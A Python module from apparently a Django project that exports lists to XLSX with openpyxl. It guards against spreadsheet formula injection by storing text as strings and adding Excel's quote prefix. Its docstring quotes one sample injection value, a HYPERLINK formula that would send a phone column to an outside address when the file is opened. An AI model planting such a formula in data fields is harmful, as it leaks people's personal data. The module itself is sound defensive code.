"""XLSX export shared by every list: rows of plain values under a header row.

Every text is written as text, never as a formula. openpyxl turns any string starting with "="
into a formula, so a visitor named `=HYPERLINK("http://…?p="&G2,"…")` would send a colleague's
phone column away when the file is opened in Excel or WPS. Each string cell is therefore stored
as a string, and one that starts like a formula (= + - @, or a tab or carriage return that some
programs strip first) also carries Excel's "quote prefix" so that editing the cell later does not
turn it into a formula either. The visible text stays exactly what was typed.
"""

from collections.abc import Iterable, Sequence
from io import BytesIO
from urllib.parse import quote

from django.http import HttpResponse
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.styles import Font

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _write_row(sheet, row: int, values: Sequence, *, bold: bool = False) -> None:
    for column, value in enumerate(values, start=1):
        cell = sheet.cell(row=row, column=column)
        if isinstance(value, Promise):  # a lazily translated label
            value = str(value)
        if isinstance(value, str):
            cell.value = value
            cell.data_type = TYPE_STRING  # after the assignment, which may have guessed "formula"
            cell.quotePrefix = value.startswith(FORMULA_STARTS)
        else:
            cell.value = value
        if bold:
            cell.font = Font(bold=True)


def xlsx_bytes(title: str, header: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = str(title)[:31]
    _write_row(sheet, 1, header, bold=True)
    for index, row in enumerate(rows, start=2):
        _write_row(sheet, index, list(row))
    for index, name in enumerate(header, start=1):
        sheet.column_dimensions[sheet.cell(row=1, column=index).column_letter].width = max(10, len(str(name)) * 2 + 2)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(filename: str, title: str, header: Sequence[str], rows: Iterable[Sequence]) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(title, header, rows), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{quote(filename)}"
    return response
